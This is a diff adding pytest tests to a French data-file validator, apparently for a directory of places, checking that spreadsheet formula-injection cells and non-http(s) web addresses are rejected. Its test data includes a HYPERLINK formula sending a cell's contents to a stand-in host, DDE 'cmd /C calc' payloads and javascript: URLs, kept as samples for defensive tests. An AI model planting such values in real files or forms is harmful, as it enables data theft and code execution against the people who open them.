@@ -99,3 +99,55 @@ def test_several_errors_in_french_with_line_field_value_rule():
     assert len(messages) == 2
     assert "ligne 7, champ « code_postal », valeur « ABCDE »" in messages[0] and "règle : format" in messages[0]
     assert "« Jardinage »" in messages[1] and "liste de valeurs" in messages[1]
+
+
+FORMULAS = [
+    ("nom", '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'),
+    ("nom", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ("presentation_detail", "\t=1+1"),  # the tab is stripped: a live formula is left
+    ("adresse", "  \r=1+1"),
+    ("source", "+HYPERLINK(1)"),
+    ("structure_parente", "-cmd"),
+    ("commune", "-2+3+cmd|' /C calc'!A0"),
+    ("id", "+1 (0)"),
+    ("typologie", " |=1+1"),  # the empty first value is dropped: the cell would start with "="
+    ("horaires", "=1+1"),
+]
+
+
+@pytest.mark.parametrize(("column", "value"), FORMULAS)
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_rejected(column, value):
+    (error,) = errors_for(**{column: value})
+    assert (error.line, error.field, error.rule) == (7, column, "formula")
+    assert "formule" in str(error) and "ligne 7" in str(error) and "règle : formule de tableur" in str(error)
+
+
+@pytest.mark.parametrize(
+    ("column", "value"),
+    [
+        ("telephone", "+33561000000"),
+        ("longitude", "-1.44367"),
+        ("latitude", "-21.1151"),
+        ("presentation_detail", "- 2 salles équipées"),
+        ("presentation_detail", "Accès = gratuit (sur inscription) ; @mediatheque"),
+        ("autres_formations_labels", "+ de 10 ans d'expérience"),
+    ],
+)
+def test_legitimate_signs_and_formula_characters_inside_a_value_are_accepted(column, value):
+    assert errors_for(**{column: value}) == []
+
+
+@pytest.mark.parametrize("column", ["site_web", "prise_rdv", "fiche_acces_libre"])
+@pytest.mark.parametrize(
+    "url", ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<b>x</b>", "www.exemple.fr", "ftp://a.fr/"]
+)
+def test_web_addresses_must_be_http_or_https(column, url):
+    errors = errors_for(**{column: url})
+    assert [(error.field, error.value, error.rule) for error in errors] == [(column, url, "url")]
+    assert "http:// ou https://" in str(errors[0])
+
+
+def test_every_web_address_of_site_web_is_checked():
+    assert errors_for(site_web="https://www.exemple.fr/|http://m.facebook.com/lieu/", prise_rdv="") == []
+    (error,) = errors_for(site_web="https://www.exemple.fr/|javascript:alert(1)")
+    assert (error.field, error.value) == ("site_web", "javascript:alert(1)")
